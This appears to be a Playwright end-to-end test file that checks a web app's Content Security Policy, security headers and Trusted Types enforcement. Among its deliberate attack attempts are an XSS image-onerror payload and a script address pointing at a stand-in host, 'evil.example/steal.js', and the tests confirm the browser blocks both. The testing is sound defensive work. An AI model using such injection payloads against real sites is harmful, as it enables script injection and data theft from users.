import { hydrated } from './axe';
import { routes } from './routes';
import { expect, test } from './test';

// Every test fails on a CSP violation (tests/e2e/test.ts); this one walks every route for it and checks the headers.
test('every route is served with the security headers and reports no CSP violation', async ({ page, cspViolations }) => {
  test.setTimeout(120_000);
  for (const route of routes) {
    const response = await page.goto(route.path);
    const headers = response!.headers();
    expect(headers['content-security-policy'], route.path).toMatch(/script-src 'self'/);
    expect(headers['content-security-policy'], route.path).not.toContain('unsafe-inline');
    expect(headers['x-content-type-options'], route.path).toBe('nosniff');
    expect(headers['referrer-policy'], route.path).toBeTruthy();
    await hydrated(page);
    await page.waitForLoadState('networkidle');
    expect(cspViolations, route.path).toEqual([]);
  }
});

test.describe('a violation provoked on purpose', () => {
  test.use({ allowCspViolations: true });

  test('an inline script injected into a page is blocked and reported', async ({ page, cspViolations }) => {
    await page.goto('/');
    await hydrated(page);
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      try {
        script.textContent = 'window.injected = true';
      } catch {
        // Trusted Types refuse the text; the element is appended as an attacker would, to check nothing runs.
      }
      document.body.append(script);
      return (window as unknown as { injected?: boolean }).injected === true;
    });
    expect(ran).toBe(false);
    await expect.poll(() => cspViolations.some((line) => line.includes('require-trusted-types-for'))).toBe(true);
  });

  test('Trusted Types refuse markup and script addresses written as strings, and report each', async ({ page, cspViolations }) => {
    await page.goto('/faq');
    await hydrated(page);
    const refusals = await page.evaluate(() => {
      const attempt = (write: () => void) => {
        try {
          write();
          return 'written';
        } catch (error) {
          return (error as Error).message;
        }
      };
      return [
        attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror="window.injected = true">')),
        attempt(() => (document.createElement('script').src = 'https://evil.example/steal.js')),
        attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>injected</b>')),
      ];
    });
    expect(refusals).toEqual([
      expect.stringContaining("requires 'TrustedHTML' assignment"),
      expect.stringContaining("requires 'TrustedScriptURL' assignment"),
      expect.stringContaining("requires 'TrustedHTML' assignment"),
    ]);
    await expect(page.getByText('injected', { exact: true })).toHaveCount(0);
    await expect.poll(() => cspViolations.filter((line) => line.includes('require-trusted-types-for')).length).toBeGreaterThanOrEqual(3);
  });

  test('an injected <style>, as a library adding its own styles would, is reported by the event and the console', async ({ page, cspViolations }) => {
    await page.goto('/contact');
    await hydrated(page);
    await page.evaluate(() => document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })));
    await expect.poll(() => cspViolations.filter((line) => line.includes('style-src')).length).toBe(2);
    expect(cspViolations.every((line) => line.startsWith('/contact: '))).toBe(true);
  });
});

test.describe('with no cookie choice yet', () => {
  test.use({ storageState: { cookies: [], origins: [] } });

  test('under Trusted Types the Google tag loads its own scripts after consent, and a page opened in the app keeps its Markdown and structured data', async ({ page }) => {
    // Google's tag assigns its further scripts' addresses as strings (as gtag.js does); the stand-in does the same.
    await page.route(/googletagmanager\.com\/gtag\/js/, (route) => route.fulfill({
      contentType: 'text/javascript',
      body: "const next = document.createElement('script'); next.src = 'https://www.googletagmanager.com/gtag/destination?id=AW-1'; document.head.append(next);",
    }));
    await page.route(/googletagmanager\.com\/gtag\/destination/, (route) => route.fulfill({ contentType: 'text/javascript', body: 'window.googleTagRan = true;' }));
    await page.goto('/');
    await hydrated(page);
    await page.getByRole('region', { name: 'Cookie Settings' }).getByRole('button', { name: 'Accept All' }).click();
    await expect.poll(() => page.evaluate(() => (window as unknown as { googleTagRan?: boolean }).googleTagRan === true)).toBe(true);

    await page.getByRole('link', { name: 'FAQ', exact: true }).first().click();
    await expect(page).toHaveURL(/\/faq$/);
    const structuredData = () => page.evaluate(() => [...document.querySelectorAll('script[type="application/ld+json"]')].map((script) => JSON.parse(script.textContent!)['@type'] as string));
    await expect.poll(structuredData).toContain('FAQPage');
    // A Markdown answer, written with innerHTML on this navigation, is on screen.
    await page.locator('main details summary').first().click();
    await expect(page.locator('main details[open] p').first()).toBeVisible();
  });
});
